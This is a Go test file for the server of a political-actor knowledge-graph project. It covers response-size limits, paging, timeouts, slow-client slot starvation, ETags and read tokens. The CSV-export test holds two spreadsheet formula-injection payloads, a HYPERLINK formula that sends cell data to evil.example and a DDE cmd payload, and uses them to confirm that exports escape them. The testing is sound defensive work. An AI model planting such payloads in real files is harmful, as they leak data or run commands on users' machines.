package server_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/actorgraph/actorgraph/graph"
	"github.com/actorgraph/actorgraph/graph/extract"
	"github.com/actorgraph/actorgraph/graph/ingest"
	"github.com/actorgraph/actorgraph/graph/store"
	"github.com/actorgraph/actorgraph/server"
)

// newServerOn returns the server over a fresh store on disk, and the store.
func newServerOn(t *testing.T, opt server.Options) (http.Handler, *store.Store) {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "s.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	closeAtEnd(t, st)
	lex, err := extract.LoadLexicon()
	if err != nil {
		t.Fatal(err)
	}
	return server.New(st, &ingest.Pipeline{Store: st, Extractor: extract.New(lex)}, slog.New(slog.NewTextHandler(io.Discard, nil)), opt), st
}

// longSentence is what the attacker sent: an article that is one sentence of size
// bytes without punctuation, which every statement of the article quotes whole.
func longSentence(size int) string {
	words := []string{"forces", "backed", "by", "the", "coalition", "moved", "along", "the", "coast", "and"}
	var b strings.Builder
	for i := 0; b.Len() < size; i++ {
		b.WriteString(words[i%len(words)])
		b.WriteByte(' ')
	}
	return b.String()[:size]
}

var bigActors = func() []graph.Node {
	var out []graph.Node
	for _, name := range []string{"Aland", "Borduria", "Carpania", "Dorado", "Elbonia", "Freedonia"} {
		out = append(out, graph.Node{ID: strings.ToLower(name), Name: name, Kind: graph.KindState})
	}
	return out
}()

// storeLongSentence stores the document "long": one sentence of size bytes with n
// statements between the six actors, supports between neighbours and opposes across,
// each quoting the whole sentence.
func storeLongSentence(t testing.TB, st *store.Store, n, size int) string {
	t.Helper()
	text := longSentence(size)
	var stmts []graph.Statement
	for i := 0; len(stmts) < n; i++ {
		a, b := bigActors[i%6], bigActors[(i/6+1+i)%6]
		if a.ID == b.ID {
			continue
		}
		p := graph.Supports
		if i%2 == 1 {
			p = graph.Opposes
		}
		stmts = append(stmts, graph.Statement{Subject: a, Predicate: p, Object: b, Extractor: "test",
			Evidence: graph.Evidence{Document: "long", Sentence: text, Start: 0, End: len(text), Modality: graph.Asserted, Confidence: 0.9}})
	}
	seen := map[string]bool{}
	for _, s := range stmts {
		k := store.StatementID(s)
		if seen[k] {
			t.Fatalf("two statements share the id %s: pick other pairs", k)
		}
		seen[k] = true
	}
	_, err := st.Ingest(context.Background(), store.Article{
		Document:   graph.Document{ID: "long", Title: "One long sentence", Date: time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC), Text: text},
		Statements: stmts, Nodes: bigActors,
	})
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func get(t *testing.T, h http.Handler, path string, header ...string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return do(t, h, req)
}

type pagedRelations struct {
	Relations []struct {
		Statement string `json:"statement"`
		Evidence  []struct {
			Document          string `json:"document"`
			Sentence          string `json:"sentence"`
			SentenceTruncated bool   `json:"sentence_truncated"`
			Start             int    `json:"start"`
			End               int    `json:"end"`
		} `json:"evidence"`
	} `json:"relations"`
	NextCursor string `json:"next_cursor"`
	Document   struct {
		Text       string `json:"text"`
		TextStart  int    `json:"text_start"`
		TextEnd    int    `json:"text_end"`
		TextLength int    `json:"text_length"`
	} `json:"document"`
}

// TestLongSentenceAnswersBounded: an article that is one sentence of 1 MiB, quoted by
// every statement, made answers of hundreds of MB. Every route that quotes evidence
// now answers within a bound on the default settings: sentences are cut to 2,000
// bytes with their offsets kept, relations come in pages, the document's text in a
// window, and the whole sentence can still be read through the offsets.
func TestLongSentenceAnswersBounded(t *testing.T) {
	h, st := newServerOn(t, server.Options{RateLimit: -1})
	const n, size = 24, 1 << 20
	text := storeLongSentence(t, st, n, size)

	for _, tt := range []struct {
		path  string
		bound int
	}{
		{"/api/v1/documents/long", size + 128<<10}, // the text window is the document's 1 MiB
		{"/api/v1/relations", 128 << 10},
		{"/api/v1/relations?document=long", 128 << 10},
		{"/api/v1/actors/aland", 128 << 10},
		{"/api/v1/actors/borduria/supporters", 128 << 10},
		{"/api/v1/camps", 512 << 10},
		{"/api/v1/camps?around=aland", 512 << 10},
		{"/api/v1/theatres", 128 << 10},
		{"/api/v1/camps/timeline?around=aland", 256 << 10},
		{"/api/v1/graph", 128 << 10},
		{"/api/v1/paths?from=aland&to=freedonia", 128 << 10},
		{"/api/v1/actors/aland/neighborhood?depth=2", 256 << 10},
	} {
		rec := get(t, h, tt.path)
		if rec.Code != http.StatusOK {
			t.Errorf("GET %s: %d %.300s", tt.path, rec.Code, rec.Body)
			continue
		}
		if rec.Body.Len() > tt.bound {
			t.Errorf("GET %s answered %d bytes, want at most %d", tt.path, rec.Body.Len(), tt.bound)
		}
	}

	// a sentence is quoted cut, with the offsets of the whole of it
	var first pagedRelations
	if err := json.Unmarshal(get(t, h, "/api/v1/relations?limit=1").Body.Bytes(), &first); err != nil {
		t.Fatal(err)
	}
	if len(first.Relations) != 1 {
		t.Fatalf("limit=1 gave %d relations", len(first.Relations))
	}
	if len(first.Relations[0].Evidence) != 1 {
		t.Fatalf("a relation with %d pieces of evidence, want 1", len(first.Relations[0].Evidence))
	}
	ev := first.Relations[0].Evidence[0]
	if !ev.SentenceTruncated || len(ev.Sentence) > 2000 || !strings.HasPrefix(text, ev.Sentence) || ev.Start != 0 || ev.End != size {
		t.Errorf("evidence: truncated %v, %d bytes, offsets %d-%d; want a cut prefix of at most 2,000 bytes and 0-%d",
			ev.SentenceTruncated, len(ev.Sentence), ev.Start, ev.End, size)
	}
	// and read whole through its offsets
	var win pagedRelations
	q := fmt.Sprintf("/api/v1/documents/long?text_start=%d&text_limit=%d&limit=1", ev.Start, ev.End-ev.Start)
	if err := json.Unmarshal(get(t, h, q).Body.Bytes(), &win); err != nil {
		t.Fatal(err)
	}
	if win.Document.Text != text[ev.Start:ev.End] || win.Document.TextStart != ev.Start || win.Document.TextEnd != ev.End || win.Document.TextLength != size {
		t.Errorf("the sentence through its offsets: %d bytes at %d-%d of %d", len(win.Document.Text), win.Document.TextStart, win.Document.TextEnd, win.Document.TextLength)
	}
}

// TestPages: /relations and /documents/{id} answer a page at a time; following
// next_cursor gives every relation once, in the order of one large page, and the last
// page has no cursor. A cursor the server did not give is a 400.
func TestPages(t *testing.T) {
	h, st := newServerOn(t, server.Options{RateLimit: -1, MaxResults: 50})
	storeLongSentence(t, st, 23, 3000)
	all := func(path string) []string {
		var ids []string
		cursor := ""
		for pages := 0; ; pages++ {
			if pages > 10 {
				t.Fatalf("%s: more than 10 pages", path)
			}
			rec := get(t, h, path+"&cursor="+url.QueryEscape(cursor))
			var p pagedRelations
			if rec.Code != http.StatusOK || json.Unmarshal(rec.Body.Bytes(), &p) != nil {
				t.Fatalf("%s: %d %.300s", path, rec.Code, rec.Body)
			}
			if len(p.Relations) > 5 {
				t.Fatalf("%s: a page of %d relations, want at most 5", path, len(p.Relations))
			}
			for _, r := range p.Relations {
				ids = append(ids, r.Statement)
			}
			if p.NextCursor == "" {
				return ids
			}
			cursor = p.NextCursor
		}
	}
	var whole pagedRelations
	if err := json.Unmarshal(get(t, h, "/api/v1/relations").Body.Bytes(), &whole); err != nil {
		t.Fatal(err)
	}
	if len(whole.Relations) != 23 || whole.NextCursor != "" {
		t.Fatalf("one page of everything: %d relations, next cursor %q", len(whole.Relations), whole.NextCursor)
	}
	var want []string
	for _, r := range whole.Relations {
		want = append(want, r.Statement)
	}
	for _, path := range []string{"/api/v1/relations?limit=5", "/api/v1/documents/long?limit=5"} {
		if got := all(path); strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("%s page by page:\n%v\nwant\n%v", path, got, want)
		}
	}
	for _, path := range []string{"/api/v1/relations?cursor=nonsense", "/api/v1/documents/long?cursor=e30", "/api/v1/relations?limit=51",
		"/api/v1/documents/long?text_limit=2000000", "/api/v1/documents/long?text_start=-1"} {
		if rec := get(t, h, path); rec.Code != http.StatusBadRequest {
			t.Errorf("GET %s: %d, want 400", path, rec.Code)
		}
	}
}

// TestEveryReadHasATimeLimit: with a time limit shorter than any read, each read of
// the API ends at it with 504 instead of running as long as it takes.
func TestEveryReadHasATimeLimit(t *testing.T) {
	h, st := newServerOn(t, server.Options{RateLimit: -1, QueryTimeout: time.Nanosecond})
	storeLongSentence(t, st, 6, 100)
	for _, path := range []string{
		"/api/v1/actors?q=a", "/api/v1/actors/aland", "/api/v1/actors/aland/supporters", "/api/v1/actors/aland/supports",
		"/api/v1/actors/aland/opposes", "/api/v1/actors/aland/opposed-by", "/api/v1/relations", "/api/v1/documents",
		"/api/v1/documents/long", "/api/v1/camps", "/api/v1/theatres", "/api/v1/camps/timeline?theatre=0", "/api/v1/graph", "/api/v1/actors/aland/neighborhood",
		"/api/v1/paths?from=aland&to=borduria",
	} {
		if rec := get(t, h, path); rec.Code != http.StatusGatewayTimeout {
			t.Errorf("GET %s: %d, want 504 at the time limit: %.200s", path, rec.Code, rec.Body)
		}
	}
}

// TestSlowExportsHoldNoQuerySlot: exports read at a trickle once held every heavy
// slot, so camps, paths and queries answered 429 to everyone. Exports now have slots
// of their own, and a client that reads slower than the minimum rate is cut off,
// which frees its slot.
func TestSlowExportsHoldNoQuerySlot(t *testing.T) {
	h, st := newServerOn(t, server.Options{RateLimit: -1, MaxQueries: 1, MaxExports: 1,
		ExportMinRate: 1 << 20, ExportGrace: 500 * time.Millisecond})
	const n, size = 24, 1 << 20 // a CSV export of 24 MiB: more than the sockets buffer
	storeLongSentence(t, st, n, size)
	srv := httptest.NewServer(h)
	defer srv.Close()

	// a client that asks for an export and reads nothing
	conn, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	if _, err := fmt.Fprintf(conn, "GET /api/v1/export?format=csv HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
		t.Fatal(err)
	}

	status := func(path string) (int, []byte) {
		res, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		if err != nil {
			t.Fatalf("GET %s: reading: %v", path, err)
		}
		return res.StatusCode, body
	}
	// wait until the stalled export holds the export slot
	deadline := time.Now().Add(5 * time.Second)
	for {
		code, _ := status("/api/v1/export/formats")
		if code != 200 {
			t.Fatalf("export formats: %d", code)
		}
		if code, _ := status("/api/v1/export?format=dot"); code == http.StatusTooManyRequests {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the stalled export never held the export slot")
		}
		time.Sleep(20 * time.Millisecond)
	}
	for _, path := range []string{"/api/v1/camps", "/api/v1/paths?from=aland&to=borduria", "/api/v1/graph"} {
		if code, body := status(path); code != http.StatusOK {
			t.Errorf("GET %s while a slow export streams: %d %.200s", path, code, body)
		}
	}
	// the slow client is cut off within a few windows, and the slot is free again
	start := time.Now()
	for {
		code, body := status("/api/v1/export?format=csv")
		if code == http.StatusOK {
			if rows := bytes.Count(body, []byte("\n")); rows != n+1 {
				t.Errorf("a fast client's export after the cut: %d lines, want %d", rows, n+1)
			}
			break
		}
		if time.Since(start) > 15*time.Second {
			t.Fatalf("the slow export still holds its slot after %s", time.Since(start).Round(time.Millisecond))
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Logf("slow client cut off within %s", time.Since(start).Round(time.Millisecond))
	// what the slow client gets is an export that ends short
	if err := conn.SetReadDeadline(time.Now().Add(10 * time.Second)); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.Copy(io.Discard, res.Body)
	if err == nil || got >= int64(n*size) {
		t.Errorf("the slow client read %d bytes and then %v; want an export cut short", got, err)
	}
}

// TestSlowReadersHoldNoHeavySlot: clients that asked for a big neighbourhood or graph
// and read it at a trickle once held every heavy slot until the write timeout, so
// camps and saved queries answered 429 to everyone. Every heavy answer now has the
// exports' minimum rate: a client that reads slower is cut off and its slot freed.
func TestSlowReadersHoldNoHeavySlot(t *testing.T) {
	for _, path := range []string{"/api/v1/actors/aland/neighborhood?depth=3&max_nodes=5000", "/api/v1/graph"} {
		t.Run(path, func(t *testing.T) { slowReaderFreesSlot(t, path) })
	}
}

// slowReaderFreesSlot has a client ask for path's answer, of about 24 MiB, and read
// nothing while it holds the only heavy slot; camps and a saved query must answer
// again within a few windows, and the slow client get an answer cut short.
func slowReaderFreesSlot(t *testing.T, path string) {
	const grace = 500 * time.Millisecond
	h, st := newServerOn(t, server.Options{RateLimit: -1, MaxQueries: 1, ExportMinRate: 1 << 20, ExportGrace: grace,
		MaxEvidenceBytes: 2 << 20, QueryBytes: 64 << 20})
	const n, size = 24, 1 << 20 // more than the sockets buffer
	storeLongSentence(t, st, n, size)
	srv := httptest.NewServer(h)
	defer srv.Close()

	conn, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: x\r\nCache-Control: no-cache\r\n\r\n", path); err != nil {
		t.Fatal(err)
	}
	status := func(path string) int {
		req, err := http.NewRequest("GET", srv.URL+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Cache-Control", "no-cache")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer res.Body.Close()
		_, _ = io.Copy(io.Discard, res.Body)
		return res.StatusCode
	}
	// the answer's head arrives once it is being written: from then on it holds the slot
	if err := conn.SetReadDeadline(time.Now().Add(10 * time.Second)); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK {
		t.Fatalf("the stalled request: %d", res.StatusCode)
	}
	if code := status("/api/v1/camps"); code != http.StatusTooManyRequests {
		t.Fatalf("camps while the stalled answer holds the slot: %d, want 429", code)
	}
	start := time.Now()
	for _, path := range []string{"/api/v1/camps", "/api/v1/queries/initiatives"} {
		for code := status(path); code != http.StatusOK; code = status(path) {
			if code != http.StatusTooManyRequests || time.Since(start) > 10*grace {
				t.Fatalf("GET %s: %d after %s, want 200 once the slow reader is cut off", path, code, time.Since(start).Round(time.Millisecond))
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	t.Logf("slow reader cut off within %s", time.Since(start).Round(time.Millisecond))
	if got, err := io.Copy(io.Discard, res.Body); err == nil {
		t.Errorf("the slow client read %d bytes whole; want an answer cut short", got)
	}
}

// TestGraphAnswersWithinByteBudget: /graph and neighbourhoods once listed every edge
// whatever its size (71 MB and 85 MB answers). Their edges now stop at the byte
// budget of queries, with truncated true, and the JSON stays whole.
func TestGraphAnswersWithinByteBudget(t *testing.T) {
	const budget = 64 << 10
	h, st := newServerOn(t, server.Options{RateLimit: -1, QueryBytes: budget, MaxEvidenceBytes: 1 << 20})
	storeLongSentence(t, st, 24, 20_000) // 24 edges of 20 kB sentences: about 480 kB
	for _, path := range []string{"/api/v1/graph", "/api/v1/actors/aland/neighborhood?depth=3"} {
		t.Run(path, func(t *testing.T) {
			rec := get(t, h, path)
			if rec.Code != http.StatusOK {
				t.Fatalf("%d %.200s", rec.Code, rec.Body)
			}
			if rec.Body.Len() > budget+1024 {
				t.Errorf("answer of %d bytes, want the budget of %d", rec.Body.Len(), budget)
			}
			var ans struct {
				Edges     []json.RawMessage `json:"edges"`
				Nodes     []json.RawMessage `json:"nodes"`
				Truncated bool              `json:"truncated"`
			}
			if err := json.Unmarshal(rec.Body.Bytes(), &ans); err != nil {
				t.Fatalf("the answer is not JSON: %v", err)
			}
			if !ans.Truncated || len(ans.Edges) == 0 || len(ans.Nodes) == 0 {
				t.Errorf("truncated %v with %d edges and %d nodes; want truncated true with some of each", ans.Truncated, len(ans.Edges), len(ans.Nodes))
			}
		})
	}
	// within the budget nothing is cut
	rec := get(t, newServerOnLong(t, 6, 100), "/api/v1/graph")
	if !strings.Contains(rec.Body.String(), `"truncated":false`) {
		t.Errorf("a small graph: %.300s; want truncated false", rec.Body)
	}
}

// newServerOnLong is a server with default options over storeLongSentence(n, size).
func newServerOnLong(t *testing.T, n, size int) http.Handler {
	t.Helper()
	h, st := newServerOn(t, server.Options{RateLimit: -1})
	storeLongSentence(t, st, n, size)
	return h
}

// TestErrorsCarryNoETag: an error answer once carried an ETag, and sending it back
// gave 304, as if the error were the current answer. Errors now carry none, and no
// ETag turns an error into a 304; a 200's ETag still does.
func TestErrorsCarryNoETag(t *testing.T) {
	h, st := newServerOn(t, server.Options{RateLimit: -1})
	storeLongSentence(t, st, 6, 100)
	for _, path := range []string{"/api/v1/actors/nobody", "/api/v1/relations?limit=abc", "/api/v1/documents/none", "/api/v1/relations?cursor=x"} {
		rec := get(t, h, path)
		if rec.Code < 400 {
			t.Fatalf("GET %s: %d, want an error", path, rec.Code)
		}
		etag := rec.Header().Get("ETag")
		if etag != "" {
			t.Errorf("GET %s: the %d carries ETag %s", path, rec.Code, etag)
		}
		// a 200's ETag, under the same generation, for the same path: what a client
		// might hold from before
		for _, tag := range []string{etag, get(t, h, "/api/v1/actors/aland").Header().Get("ETag")} {
			if tag == "" {
				continue
			}
			if again := get(t, h, path, "If-None-Match", tag); again.Code == http.StatusNotModified {
				t.Errorf("GET %s with If-None-Match %s: 304, want the error again", path, tag)
			}
		}
	}
	ok := get(t, h, "/api/v1/actors/aland")
	if ok.Code != 200 || ok.Header().Get("ETag") == "" {
		t.Fatalf("a 200: %d, ETag %q", ok.Code, ok.Header().Get("ETag"))
	}
	if rec := get(t, h, "/api/v1/actors/aland", "If-None-Match", ok.Header().Get("ETag")); rec.Code != http.StatusNotModified {
		t.Errorf("a 200's ETag sent back: %d, want 304", rec.Code)
	}
}

// TestExportedCSVRunsNoFormula: a label and a sentence imported from another tool
// that begin like a spreadsheet formula come out of the CSV exports quoted.
func TestExportedCSVRunsNoFormula(t *testing.T) {
	h, _ := newServerOn(t, server.Options{RateLimit: -1, Token: "t"})
	const (
		label    = `=HYPERLINK("https://evil.example/?d="&A1,"Details")`
		sentence = `=cmd|' /C calc'!A0`
	)
	ns := graph.Namespace
	quads := strings.Join([]string{
		fmt.Sprintf(`<%sactor/evil> <http://www.w3.org/2000/01/rdf-schema#label> %q .`, ns, label),
		fmt.Sprintf(`<%sactor/evil> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <%s> .`, ns, graph.ClassActor),
		fmt.Sprintf(`<%sactor/evil> <%s> <%sactor/serbia> <%sstatement/s1> .`, ns, graph.PredicateIRI(graph.Supports), ns, ns),
		fmt.Sprintf(`<%sstatement/s1> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <%s> .`, ns, graph.ClassStatement),
		fmt.Sprintf(`<%sstatement/s1> <%s> <%sactor/evil> .`, ns, graph.PropSubject, ns),
		fmt.Sprintf(`<%sstatement/s1> <%s> <%s> .`, ns, graph.PropPredicate, graph.PredicateIRI(graph.Supports)),
		fmt.Sprintf(`<%sstatement/s1> <%s> <%sactor/serbia> .`, ns, graph.PropObject, ns),
		fmt.Sprintf(`<%sstatement/s1> <%s> <%s> .`, ns, graph.PropDocument, graph.DocumentIRI("d")),
		fmt.Sprintf(`<%sstatement/s1> <%s> %q .`, ns, graph.PropSentence, sentence),
	}, "\n") + "\n"
	req := httptest.NewRequest("POST", "/api/v1/import", strings.NewReader(quads))
	req.Header.Set("Authorization", "Bearer t")
	if rec := do(t, h, req); rec.Code != http.StatusOK {
		t.Fatalf("import: %d %s", rec.Code, rec.Body)
	}
	rec := get(t, h, "/api/v1/export?format=csv")
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV export: %v, %d rows: %s", err, len(rows), rec.Body)
	}
	cells := rows[1]
	rec = get(t, h, "/api/v1/export?format=neo4j")
	z, err := zip.NewReader(bytes.NewReader(rec.Body.Bytes()), int64(rec.Body.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		rows, err := csv.NewReader(r).ReadAll()
		if cerr := r.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, row := range rows[1:] {
			cells = append(cells, row...)
		}
	}
	var quoted int
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("a cell a spreadsheet runs: %q", c)
		}
		if c == "'"+label || c == "'"+sentence {
			quoted++
		}
	}
	if quoted < 3 { // the label and the sentence in the edge list, the label in nodes.csv
		t.Errorf("%d cells hold the label or the sentence quoted, want 3 or more: %q", quoted, cells)
	}
}

// TestPageOpenWithReadToken: with a read token set, the page, its scripts and the
// API's description load without it (they hold no data, and the page asks for the
// token); the API still needs it.
func TestPageOpenWithReadToken(t *testing.T) {
	h, _ := newServerOn(t, server.Options{ReadToken: "r", RateLimit: -1})
	for _, path := range []string{"/", "/static/app.js", "/static/app.css", "/openapi.yaml", "/healthz"} {
		if rec := get(t, h, path); rec.Code != http.StatusOK {
			t.Errorf("GET %s without the read token: %d, want 200", path, rec.Code)
		}
	}
	for _, path := range []string{"/api/v1/graph", "/api/v1/documents", "/metrics"} {
		if rec := get(t, h, path); rec.Code != http.StatusUnauthorized {
			t.Errorf("GET %s without the read token: %d, want 401", path, rec.Code)
		}
		if rec := get(t, h, path, "Authorization", "Bearer r"); rec.Code != http.StatusOK {
			t.Errorf("GET %s with the read token: %d, want 200", path, rec.Code)
		}
	}
}
